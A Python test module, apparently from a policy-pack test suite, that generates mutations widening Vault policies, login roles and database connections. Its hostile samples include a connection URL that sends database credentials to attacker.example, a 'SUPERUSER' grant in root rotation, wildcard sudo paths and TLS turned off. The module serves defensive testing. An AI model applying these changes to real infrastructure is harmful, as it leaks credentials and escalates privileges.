"""Access to Vault and the database, widened: policies, login roles, keys, certificates, database logins."""

import re
from collections.abc import Iterator

from policy_pack.stack.graph import Resource
from tests.policy.attacks.mutation import GONE, Family, Mutation, Target, get
from tests.policy.attacks.properties import of_kinds
from tests.policy.attacks.stacks import FIRST, crossed
from tests.policy.attacks.tables import added, edits, values

FAMILY = "vault"
_POLICY = "vault:index/policy:Policy"
_CAPABILITIES = ('"read"', '"create", "update"', '"list"', '"sudo", "read"', '"delete"', '"patch"')


def mutations(target: Target) -> Iterator[Mutation]:
    """Return the mutations of the family."""
    family = Family(FAMILY, target)
    for policy in _own(target, _POLICY)[-2:]:
        yield from _paths(family, policy)
        yield from _texts(family, policy)
    for role in _own(target, "vault:kubernetes/authBackendRole:AuthBackendRole"):
        yield from _logins(family, role)
    for role in _own(target, "vault:database/secretBackendRole:SecretBackendRole"):
        yield from _database_role(family, role)
    for connection in _own(target, "vault:database/secretBackendConnection:SecretBackendConnection"):
        yield from _connection(family, connection)
    yield from edits(family)
    yield from added(family)
    yield from of_kinds(FAMILY, target, lambda kind: kind.startswith("vault:"), most=1)


def _own(target: Target, kind: str) -> list[Resource]:
    return [one for one in target.of(kind) if one.name.startswith(FIRST)]


def _paths(family: Family, policy: Resource) -> Iterator[Mutation]:
    for path in values("vault_paths"):
        for capabilities in _CAPABILITIES if path in ("*", f"{FIRST}/*") else _CAPABILITIES[:2]:
            block = f'\npath "{path}" {{\n  capabilities = [{capabilities}]\n}}\n'
            told = f"{capabilities.replace(chr(34), '')} on {path}"
            yield from family.put(policy, f"add {told}", (("policy",), policy.props["policy"] + block))


def _texts(family: Family, policy: Resource) -> Iterator[Mutation]:
    text = policy.props["policy"]
    all_ = '["create", "read", "update", "delete", "list", "sudo"]'
    for told, other in (
        ("as JSON", '{"path": {"*": {"capabilities": ["read", "sudo"]}}}'),
        ("in one line", f'path "{FIRST}/*" {{ capabilities = ["read","update"] }}'),
        ("with the older key", f'path "{FIRST}/*" {{\n  policy = "write"\n}}'),
        ("with a comment", text + f'\n# deny\npath "{FIRST}/*" /* x */ {{ capabilities = [ "read" , ] }}\n'),
        (
            "with nested blocks",
            text + f'\npath "{FIRST}/kv/*" {{\n capabilities = ["read"]\n allowed_parameters = {{}}\n}}\n',
        ),
        ("with a heredoc", f'path "{FIRST}/*" {{\n  capabilities = <<E\n["read"]\nE\n}}'),
        ("without a quote", text.replace('"]', "]", 1)),
        ("of the other hospital", crossed(text)),
        ("with every capability", re.sub(r"capabilities = \[.*?\]", f"capabilities = {all_}", text)),
        ("of every path of the mount", re.sub(r'path "([^/"]+/[^/"]+)/[^"]*"', r'path "\1/*"', text)),
        ("of every mount", re.sub(r'path "([^/"]+)/[^"]*"', r'path "+/*"', text)),
        ("with a glob behind each path", re.sub(r'path "([^"]+)"', r'path "\1*"', text)),
        ("with a template", text + '\npath "{{identity.entity.name}}/*" {\n  capabilities = ["read"]\n}\n'),
        ("that says nothing", ""),
    ):
        yield from family.put(policy, f"a policy {told}", (("policy",), other))


def _logins(family: Family, role: Resource) -> Iterator[Mutation]:
    """Return what depends on the role's own values; the others are in the table of edits."""
    for name in ("boundServiceAccountNames", "boundServiceAccountNamespaces", "tokenPolicies"):
        held = role.props[name]
        if crossed(held) != held:
            yield from family.put(role, f"the other hospital's {name}", ((name,), crossed(held)))
            yield from family.put(role, f"the other hospital's {name} too", ((name,), [*held, *crossed(held)]))
    accounts = [*role.props["boundServiceAccountNames"], "default"]
    yield from family.put(role, "a second account", (("boundServiceAccountNames",), accounts))
    every = [one.props["name"] for one in _own(family.target, _POLICY)]
    yield from family.put(role, "every policy of the hospital", (("tokenPolicies",), every))


def _database_role(family: Family, role: Resource) -> Iterator[Mutation]:
    statements = get(role.props, ("creationStatements",)) or []
    for statement in values("database_statements"):
        yield from family.put(role, f"run {statement[:48]}", (("creationStatements",), [*statements, statement]))
        for name in ("rollbackStatements", "renewStatements", "revocationStatements"):
            yield from family.put(role, f"{name}: {statement[:30]}", ((name,), [statement]))
    for told, old, new in (
        ("without end", " VALID UNTIL '{{expiration}}'", ""),
        ("that inherits", "NOINHERIT", "INHERIT"),
        ("of the other hospital's database", f'"{FIRST}"', '"south"'),
    ):
        changed = [str(one).replace(old, new) for one in statements]
        yield from family.put(role, f"a login {told}", (("creationStatements",), changed))


def _connection(family: Family, connection: Resource) -> Iterator[Mutation]:
    place = ("postgresql", "connectionUrl")
    url = str(get(connection.props, place))
    for told, other in (
        ("without TLS", url.replace("verify-full", "disable")),
        ("with unverified TLS", url.replace("verify-full", "require")),
        ("with preferred TLS", url.replace("verify-full", "prefer")),
        ("with nothing said of TLS", url.partition("?")[0]),
        ("with two modes", f"{url}&sslmode=disable"),
        ("to the other hospital", url.replace(f"/{FIRST}", "/south")),
        ("to another server", "postgresql://{{username}}:{{password}}@attacker.example:5432/north?sslmode=verify-full"),
    ):
        yield from family.put(connection, f"a connection {told}", (place, other))
    yield from family.put(connection, "a connection for every role", (("allowedRoles",), ["*"]))
    yield from family.put(connection, "rotation that grants", (("rootRotationStatements",), ["ALTER ROLE x SUPERUSER"]))
    yield from family.put(connection, "another login", (("postgresql", "username"), GONE))
